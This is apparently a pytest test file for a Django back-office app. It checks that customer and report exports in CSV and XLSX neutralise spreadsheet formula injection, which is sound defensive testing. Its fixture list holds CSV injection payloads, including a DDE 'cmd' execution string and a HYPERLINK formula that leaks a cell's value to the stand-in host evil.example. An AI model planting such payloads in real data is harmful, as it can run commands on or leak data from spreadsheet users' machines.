"""Exports are safe to open (OWASP's CSV injection rules): text that a customer typed at a
till and that a spreadsheet would run as a formula stays text, in CSV and in XLSX, on the
customer export and on every report's; numbers stay numbers. The files are opened and read
as a spreadsheet reads them."""

import csv
import io

import pytest
from openpyxl import load_workbook

from kopilka.backoffice.exports import table_response
from kopilka.customers.models import Customer
from kopilka.merchants.models import Role

from .admin_client import staff_user

URL = "/admin/customers/customer/"
HOSTILE_NAMES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\tTab",
    "\rReturn",
]


@pytest.fixture
def owner_client(client, merchant):
    client.force_login(staff_user(merchant, Role.OWNER))
    return client


@pytest.fixture
def hostile_customers(make_customer):
    made = []
    for n, name in enumerate(HOSTILE_NAMES):
        customer = make_customer(phone=f"+7916555{n:04d}")
        # As a till's registration would have stored it (the services strip spaces).
        Customer.objects.filter(pk=customer.pk).update(first_name=name, visits=n)
        made.append(name)
    return made


def test_the_csv_export_neutralises_every_formula_and_keeps_numbers(
    owner_client, hostile_customers
):
    response = owner_client.get(f"{URL}export/csv/")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    names = sorted(row[1] for row in rows)
    assert names == sorted("'" + name for name in HOSTILE_NAMES)
    assert sorted(int(row[10]) for row in rows) == list(range(len(HOSTILE_NAMES)))


def test_the_xlsx_export_stores_them_as_text_cells_never_as_formulas(
    owner_client, hostile_customers
):
    response = owner_client.get(f"{URL}export/xlsx/")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [row[1] for row in book.active.iter_rows(min_row=2)]
    # XML turns a carriage return into a line feed; the text is otherwise as typed.
    assert sorted(cell.value for cell in cells) == sorted(
        name.replace("\r", "\n") for name in HOSTILE_NAMES
    )
    assert {cell.data_type for cell in cells} == {"s"}  # "f" would be a formula
    visits = [row[10] for row in book.active.iter_rows(min_row=2)]
    assert {cell.data_type for cell in visits} == {"n"}


def test_a_reports_export_is_as_safe():
    rows = [["=1+1", 5], ["plain", -7]]
    response = table_response("report", "csv", ["@name", "n"], rows)
    csv_text = b"".join(response.streaming_content).decode()
    assert list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff")))) == [
        ["'@name", "n"],
        ["'=1+1", "5"],
        ["plain", "-7"],
    ]
    book = load_workbook(io.BytesIO(table_response("report", "xlsx", ["@name", "n"], rows).content))
    sheet = [[(c.value, c.data_type) for c in row] for row in book.active.iter_rows()]
    assert sheet == [
        [("@name", "s"), ("n", "s")],
        [("=1+1", "s"), (5, "n")],
        [("plain", "s"), (-7, "n")],
    ]
